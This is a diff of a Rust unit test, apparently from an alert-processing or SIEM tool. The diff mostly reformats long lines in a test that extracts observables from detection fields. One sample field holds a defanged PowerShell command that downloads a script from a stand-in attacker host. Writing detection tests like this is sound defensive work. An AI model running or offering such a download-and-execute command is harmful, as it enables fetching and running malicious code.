@@ -1193,8 +1193,16 @@ mod tests {
         signal.user = Some("CORP\\Alice".into());
         for (field, value) in [
             ("DestinationIp", serde_json::json!("192.0.2.7")),
-            ("Hashes", serde_json::json!("SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=00")),
-            ("CommandLine", serde_json::json!("powershell.exe -c iwr hxxp://evil[.]example/x.ps1")),
+            (
+                "Hashes",
+                serde_json::json!(
+                    "SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=00"
+                ),
+            ),
+            (
+                "CommandLine",
+                serde_json::json!("powershell.exe -c iwr hxxp://evil[.]example/x.ps1"),
+            ),
             ("TargetUserName", serde_json::json!(["svc-backup", "-"])),
             ("UserAgent", serde_json::json!("curl/8.0")),
             ("EventID", serde_json::json!(4625)),
@@ -1202,7 +1210,11 @@ mod tests {
             signal.matched_fields.insert(field.into(), value);
         }
         let alert = Alert::open(&signal, InstanceId::from_uuid(uuid::Uuid::nil()), at(0));
-        let found: Vec<String> = alert.observables().iter().map(ToString::to_string).collect();
+        let found: Vec<String> = alert
+            .observables()
+            .iter()
+            .map(ToString::to_string)
+            .collect();
         assert_eq!(
             found,
             [
